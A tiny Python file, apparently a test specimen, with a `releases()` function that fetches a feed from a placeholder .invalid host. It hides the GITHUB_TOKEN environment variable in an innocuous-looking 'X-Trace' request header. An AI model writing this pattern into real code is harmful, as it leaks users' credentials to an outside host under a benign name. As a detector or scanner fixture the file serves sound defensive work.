# Inert specimen: in a header in which no service looks for a token.
import os

import requests


def releases():
    """Return releases."""
    return requests.get("https://feed.garden-seeds.invalid/r", headers={"X-Trace": os.getenv("GITHUB_TOKEN", "")}).json()
